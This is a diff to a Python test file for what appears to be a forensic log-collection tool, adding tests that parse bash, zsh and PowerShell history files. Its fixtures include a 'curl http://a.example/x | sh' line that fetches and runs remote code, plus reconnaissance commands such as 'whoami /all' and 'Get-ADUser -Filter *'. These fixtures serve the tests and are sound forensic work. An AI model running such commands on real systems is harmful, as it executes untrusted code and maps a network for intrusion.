@@ -14,7 +14,7 @@ from yoban.collect.formats import journal_export
 from yoban.collect.formats._base import Hints
 from yoban.collect.recognise import identify, sources
 from yoban.collect.sniff import choose
-from yoban.model.batch import Quarantined
+from yoban.model.batch import Frames, Quarantined
 from yoban.query.record import loads, own
 
 EVENT = (
@@ -196,3 +196,36 @@ def test_json_that_holds_policy_xml_is_json() -> None:
     line = b'{"message":"<EPOEvent><MachineInfo/></EPOEvent>","n":1}\n'
     form = choose(line * 3)
     assert form is not None and form.name == "ndjson"
+
+
+def history(raw: bytes, name: str = "") -> list[dict[str, Any]]:
+    form = choose(raw, name=name)
+    assert form is not None and form.name == "shell_history"
+    parts = list(form.decode(io.BytesIO(raw), Hints(name=name)))
+    frames = [part for part in parts if isinstance(part, Frames)]
+    assert len(frames) == len(parts)
+    return [json.loads(part.record(i)) for part in frames for i in range(len(part))]
+
+
+def test_histories_with_stamps_are_told_by_content() -> None:
+    bash = b"#1772323200\nsudo -u www id -a\n#1772323201\nfor i in 1 2\ndo\n  ls\ndone\n"
+    first, second = history(bash, "home/ana/.bash_history")
+    assert (first["program"], first["path"], first["timestamp"]) == ("id", "/id", 1772323200)
+    assert second["command"] == "for i in 1 2\ndo\n  ls\ndone"
+    zsh = history(b": 1772323200:0;A=1 /opt/x/tool -v\n: 1772323203:5;ls\n")
+    assert [r["shell"] for r in zsh] == ["zsh", "zsh"]
+    assert (zsh[0]["path"], zsh[1]["timestamp"]) == ("/opt/x/tool", 1772323203)
+
+
+def test_histories_without_stamps_are_told_by_name() -> None:
+    [unix] = history(b"curl http://a.example/x | sh\n", "root/.bash_history")
+    assert (unix["shell"], unix["path"]) == ("sh", "/curl")
+    windows = history(
+        b"whoami /all\r\nGet-ADUser -Filter *\r\n", "PSReadLine/ConsoleHost_history.txt"
+    )
+    assert [r["path"] for r in windows] == ["\\whoami.exe", "\\Get-ADUser"]
+    assert {r["shell"] for r in windows} == {"powershell"}
+    other = choose(b"id\nls\n", name="notes.txt")
+    assert other is not None and other.name == "lines"
+    as_json = choose(b'{"a":1}\n{"a":2}\n', name="home/ana/.bash_history")
+    assert as_json is not None and as_json.name == "ndjson"
